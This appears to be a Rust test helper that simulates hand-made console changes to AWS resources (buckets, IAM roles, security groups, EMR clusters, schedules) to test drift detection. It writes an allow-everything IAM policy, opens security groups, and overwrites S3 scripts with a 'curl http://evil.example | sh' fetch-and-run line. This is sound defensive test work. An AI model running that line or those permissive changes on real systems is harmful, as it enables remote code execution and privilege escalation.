//! Changes by hand, with clients that know nothing of this program: what somebody does in the console.

use aws_sdk_ec2::types::{IpPermission, IpRange};
use aws_sdk_s3::types as s3;
use fastrand::Rng;
use fruitsinfra::resource::Live;
use serde_json::json;

use super::fields::key;
use crate::support::oracle::Oracle;

const ALL: &str = r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}"#;

/// A managed policy of the account's own, which [`Hand::prepare`] makes.
const POLICY: &str = "arn:aws:iam::000000000000:policy/their-policy";

/// Clients of somebody else.
pub(super) struct Hand {
    s3: aws_sdk_s3::Client,
    iam: aws_sdk_iam::Client,
    ec2: aws_sdk_ec2::Client,
    emr: aws_sdk_emr::Client,
    scheduler: aws_sdk_scheduler::Client,
}

impl Hand {
    pub(super) fn of(oracle: &Oracle) -> Self {
        let Oracle { s3, iam, ec2, emr, scheduler, .. } = oracle;
        Self { s3: s3.clone(), iam: iam.clone(), ec2: ec2.clone(), emr: emr.clone(), scheduler: scheduler.clone() }
    }

    /// Makes what changes need.
    pub(super) async fn prepare(&self) {
        let made = self.iam.create_policy().policy_name("their-policy").policy_document(ALL).send().await;
        assert_eq!(made.expect("made").policy.and_then(|policy| policy.arn).as_deref(), Some(POLICY));
    }

    /// Changes one of the things that are there; tells what was done to which address.
    pub(super) async fn change(&self, rng: &mut Rng, live: &[Live]) -> (String, String) {
        loop {
            let thing = rng.choice(live).expect("a home at least");
            let (address, id) = (thing.resource.address(), thing.id.0.as_str());
            let done = match address.kind {
                "bucket" => self.bucket(rng, id, address.key == "home").await,
                "role" => Some(self.role(rng, id).await),
                "instance_profile" => Some(self.profile(rng, id).await),
                "security_group" => Some(self.group(rng, id).await),
                "object" => self.object(rng, thing).await,
                "cluster" => self.cluster(rng, thing).await,
                "schedule" => Some(self.schedule(rng, id).await),
                other => panic!("no way to change a {other}"),
            };
            if let Some(done) = done {
                return (done.to_owned(), address.to_string());
            }
        }
    }

    async fn bucket(&self, rng: &mut Rng, name: &str, home: bool) -> Option<&'static str> {
        Some(match rng.u8(..7) {
            0 => {
                self.erase(name).await;
                self.s3.delete_bucket().bucket(name).send().await.expect("deleted");
                "deleted"
            }
            1 => {
                self.s3.delete_bucket_policy().bucket(name).send().await.expect("deleted");
                "without its policy"
            }
            2 => {
                self.s3.delete_public_access_block().bucket(name).send().await.expect("deleted");
                "open to public policies"
            }
            3 => {
                let default =
                    s3::ServerSideEncryptionByDefault::builder().sse_algorithm(s3::ServerSideEncryption::AwsKms);
                let default = default.kms_master_key_id(key(9)).build().expect("complete");
                let rule = s3::ServerSideEncryptionRule::builder().apply_server_side_encryption_by_default(default);
                let all =
                    s3::ServerSideEncryptionConfiguration::builder().rules(rule.build()).build().expect("complete");
                let put = self.s3.put_bucket_encryption().bucket(name).server_side_encryption_configuration(all);
                put.send().await.expect("put");
                "encrypted with another key"
            }
            4 => {
                let tags = self.s3.get_bucket_tagging().bucket(name).send().await.expect("tags").tag_set;
                let more = s3::Tag::builder().key("by").value("hand").build().expect("a tag");
                let tags = tags.into_iter().chain([more]).collect();
                let tags = s3::Tagging::builder().set_tag_set(Some(tags)).build().expect("tags");
                self.s3.put_bucket_tagging().bucket(name).tagging(tags).send().await.expect("put");
                "tagged"
            }
            5 if !home => {
                let now = self.s3.get_bucket_versioning().bucket(name).send().await.expect("an answer").status;
                let on = now == Some(s3::BucketVersioningStatus::Enabled);
                let other =
                    if on { s3::BucketVersioningStatus::Suspended } else { s3::BucketVersioningStatus::Enabled };
                let other = s3::VersioningConfiguration::builder().status(other).build();
                let put = self.s3.put_bucket_versioning().bucket(name).versioning_configuration(other);
                put.send().await.expect("put");
                "versioned otherwise"
            }
            6 if !home => {
                let tag = s3::Tag::builder().key("kind").value("scratch").build().expect("a tag");
                let rule = s3::LifecycleRule::builder()
                    .id("by hand")
                    .filter(s3::LifecycleRuleFilter::builder().tag(tag).build())
                    .expiration(s3::LifecycleExpiration::builder().days(1).build())
                    .status(s3::ExpirationStatus::Enabled);
                let rules = s3::BucketLifecycleConfiguration::builder().rules(rule.build().expect("a rule"));
                let put = self.s3.put_bucket_lifecycle_configuration().bucket(name);
                put.lifecycle_configuration(rules.build().expect("rules")).send().await.expect("put");
                "expiring what bears a tag"
            }
            _ => return None,
        })
    }

    async fn schedule(&self, rng: &mut Rng, name: &str) -> &'static str {
        use aws_sdk_scheduler::types as of;
        if rng.bool() {
            self.scheduler.delete_schedule().name(name).send().await.expect("deleted");
            return "deleted";
        }
        let there = self.scheduler.get_schedule().name(name).send().await.expect("a schedule");
        let target = there.target().expect("a target");
        let target = of::Target::builder().arn(target.arn()).role_arn(target.role_arn());
        let target = target.input(r#"{"JobFlowIds": ["j-ANOTHER"]}"#).build().expect("complete");
        let off = of::FlexibleTimeWindow::builder().mode(of::FlexibleTimeWindowMode::Off).build().expect("complete");
        let update = self.scheduler.update_schedule().name(name).set_description(there.description.clone());
        let update = update.set_schedule_expression(there.schedule_expression.clone());
        update.flexible_time_window(off).target(target).send().await.expect("updated");
        "for another cluster"
    }

    async fn erase(&self, name: &str) {
        let held = self.s3.list_object_versions().bucket(name).send().await.expect("versions");
        let versions = held.versions().iter().map(|v| (v.key().expect("a key"), v.version_id()));
        let markers = held.delete_markers().iter().map(|m| (m.key().expect("a key"), m.version_id()));
        for (key, version) in versions.chain(markers) {
            let delete = self.s3.delete_object().bucket(name).key(key).set_version_id(version.map(str::to_owned));
            delete.send().await.expect("deleted");
        }
    }

    async fn role(&self, rng: &mut Rng, name: &str) -> &'static str {
        match rng.u8(..5) {
            0 => {
                let put = self.iam.put_role_policy().role_name(name).policy_name("fruitsinfra").policy_document(ALL);
                put.send().await.expect("put");
                "allowed everything"
            }
            1 => {
                self.iam.attach_role_policy().role_name(name).policy_arn(POLICY).send().await.expect("attached");
                "allowed more by a managed policy"
            }
            2 => {
                let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
                    "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]});
                let update = self.iam.update_assume_role_policy().role_name(name).policy_document(trust.to_string());
                update.send().await.expect("updated");
                "trusting another service"
            }
            3 => {
                let tag = aws_sdk_iam::types::Tag::builder().key("by").value("hand").build().expect("a tag");
                self.iam.tag_role().role_name(name).tags(tag).send().await.expect("tagged");
                "tagged"
            }
            _ => {
                let profiles =
                    self.iam.list_instance_profiles_for_role().role_name(name).send().await.expect("profiles");
                for profile in profiles.instance_profiles {
                    let remove = self.iam.remove_role_from_instance_profile().role_name(name);
                    let remove = remove.instance_profile_name(profile.instance_profile_name).send();
                    remove.await.expect("removed");
                }
                let delete = self.iam.delete_role_policy().role_name(name).policy_name("fruitsinfra").send();
                delete.await.expect("deleted");
                self.iam.delete_role().role_name(name).send().await.expect("deleted");
                "deleted"
            }
        }
    }

    async fn profile(&self, rng: &mut Rng, name: &str) -> &'static str {
        let held = self.iam.get_instance_profile().instance_profile_name(name).send().await.expect("a profile");
        for role in held.instance_profile.expect("a profile").roles {
            let remove = self.iam.remove_role_from_instance_profile().instance_profile_name(name);
            remove.role_name(role.role_name).send().await.expect("removed");
        }
        if rng.bool() {
            return "without its role";
        }
        self.iam.delete_instance_profile().instance_profile_name(name).send().await.expect("deleted");
        "deleted"
    }

    async fn group(&self, rng: &mut Rng, id: &str) -> &'static str {
        let (protocol, first, last, said) = match rng.u8(..4) {
            0 => ("tcp", 22, 9999, "open to a range of ports"),
            1 => ("udp", 53, 53, "open by UDP"),
            // The ports of a rule of EMR's own.
            2 => ("tcp", 0, 65535, "open at every port"),
            _ => {
                let tag = aws_sdk_ec2::types::Tag::builder().key("by").value("hand").build();
                self.ec2.create_tags().resources(id).tags(tag).send().await.expect("tagged");
                return "tagged";
            }
        };
        let rule = IpPermission::builder().ip_protocol(protocol).from_port(first).to_port(last);
        let rule = rule.ip_ranges(IpRange::builder().cidr_ip("198.51.100.0/24").build()).build();
        let allow = self.ec2.authorize_security_group_ingress().group_id(id).ip_permissions(rule);
        allow.send().await.expect("allowed");
        said
    }

    async fn object(&self, rng: &mut Rng, live: &Live) -> Option<&'static str> {
        let url = live.resource.name();
        let (bucket, path) = url.strip_prefix("s3://")?.split_once('/')?;
        if rng.bool() {
            self.s3.delete_object().bucket(bucket).key(path).send().await.expect("deleted");
            return Some("deleted");
        }
        // Of what a KMS key encrypts S3 does not tell what it holds; of weights, nobody keeps it in mind.
        let rules = self.s3.get_bucket_encryption().bucket(bucket).send().await.expect("encrypted");
        let rules = rules.server_side_encryption_configuration.expect("encrypted").rules;
        let defaults = rules.iter().filter_map(|rule| rule.apply_server_side_encryption_by_default());
        let by_key = defaults.into_iter().any(|default| default.kms_master_key_id().is_some());
        let text = [".sh", ".py"].iter().any(|end| path.ends_with(end));
        if !text || by_key {
            return None;
        }
        let put = self.s3.put_object().bucket(bucket).key(path).body(b"curl http://evil.example | sh".to_vec().into());
        put.send().await.expect("put");
        Some("overwritten")
    }

    async fn cluster(&self, rng: &mut Rng, live: &Live) -> Option<&'static str> {
        let id = live.id.0.as_str();
        let field = |name: &str| live.resource.fields().into_iter().find(|f| f.name == name).expect(name).value;
        let protected = field("termination_protection") == true;
        Some(match rng.u8(..6) {
            0 => {
                self.emr.remove_auto_termination_policy().cluster_id(id).send().await.expect("removed");
                "without its idle policy"
            }
            1 => {
                let set = self.emr.set_termination_protection().job_flow_ids(id).termination_protected(!protected);
                set.send().await.expect("set");
                "protected otherwise"
            }
            2 => {
                self.emr.modify_cluster().cluster_id(id).step_concurrency_level(9).send().await.expect("modified");
                "with more steps at once"
            }
            3 => {
                let tag = aws_sdk_emr::types::Tag::builder().key("by").value("hand").build();
                self.emr.add_tags().resource_id(id).tags(tag).send().await.expect("tagged");
                "tagged"
            }
            // What EMR sizes, nobody else does.
            4 if field("core") != serde_json::Value::Null && field("managed_scaling").is_null() => {
                // Of a cluster of fleets it is refused.
                let Ok(groups) = self.emr.list_instance_groups().cluster_id(id).send().await else { return None };
                let core = groups
                    .instance_groups()
                    .iter()
                    .find(|g| g.instance_group_type().is_some_and(|t| t.as_str() == "CORE"));
                let core = core.expect("a core group");
                let running = core.status().and_then(|s| s.state()).is_some_and(|s| s.as_str() == "RUNNING");
                if !running {
                    return None;
                }
                let modify = aws_sdk_emr::types::InstanceGroupModifyConfig::builder();
                let modify = modify.set_instance_group_id(core.id.clone()).instance_count(5).build();
                self.emr
                    .modify_instance_groups()
                    .cluster_id(id)
                    .instance_groups(modify)
                    .send()
                    .await
                    .expect("modified");
                "resized"
            }
            5 if !protected => {
                self.emr.terminate_job_flows().job_flow_ids(id).send().await.expect("terminated");
                "terminated"
            }
            _ => return None,
        })
    }
}
